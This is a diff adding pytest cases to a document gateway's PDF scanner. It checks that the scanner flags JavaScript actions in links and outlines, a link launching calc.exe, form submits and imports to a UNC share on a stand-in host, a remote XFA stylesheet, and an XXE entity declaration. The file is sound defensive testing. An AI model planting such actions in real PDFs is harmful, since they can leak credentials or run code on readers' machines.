@@ -6,6 +6,8 @@ import pikepdf
 import pytest
 
 from gateway.extract import pdfactions
+from gateway.extract.pdf import PDF
+from tests.builders.archives import codes, take_apart
 from tests.builders.documents import pdf
 
 
@@ -32,3 +34,30 @@ def test_filters_are_bounded_and_unknown_ones_named() -> None:
 
 def test_text_strings() -> None:
     assert pdfactions._decode(b"\xfe\xff\x5b\xa2") == "客" and pdfactions._decode("客".encode()) == "客" and pdfactions._decode("客戶".encode("cp950")) == "客戶"
+
+
+ALERT = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
+
+
+def link(action: str) -> bytes:
+    return pdf(page=f"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A {action} >>]")
+
+
+OUTLINE = pdf("/Outlines 6 0 R", ("<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>", f"<< /Title (x) /Parent 6 0 R /A {ALERT} >>"))
+
+
+@pytest.mark.parametrize(("data", "code"), [
+    (link(ALERT), "PDF-SCRIPT-ACTS"), (OUTLINE, "PDF-SCRIPT-ACTS"), (link("<< /S /Rendition /JS (app.alert\\(1\\)) >>"), "PDF-SCRIPT-ACTS"),
+    (link("<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>"), "DOC-LINK-PROGRAM"),
+    (link("<< /S /SubmitForm /F (\\\\\\\\h.example\\\\s) >>"), "PDF-REMOTE-SHARE"),
+    (link("<< /S /ImportData /F (\\\\\\\\h.example\\\\s\\\\a.fdf) >>"), "PDF-REMOTE-SHARE"),
+    (pdf("/AcroForm << /XFA (<?xml-stylesheet href=\"\\\\\\\\h.example\\\\x.xslt\"?><xdp:xdp/>) >>"), "PDF-REMOTE-SHARE"),
+    (pdf("/AcroForm << /XFA (<!DOCTYPE x [<!ENTITY a SYSTEM \"http://h\">]><xdp:xdp/>) >>"), "PDF-XFA-ENTITY"),
+])
+def test_actions_in_places_without_forms(data: bytes, code: str) -> None:
+    assert code in codes(take_apart(PDF, data, "a.pdf"))
+
+
+def test_a_button_of_a_form_may_talk() -> None:
+    data = pdf(page=f"/Annots [<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 9 9] /A {ALERT} >>]")
+    assert "PDF-SCRIPT-ACTS" not in codes(take_apart(PDF, data, "a.pdf"))
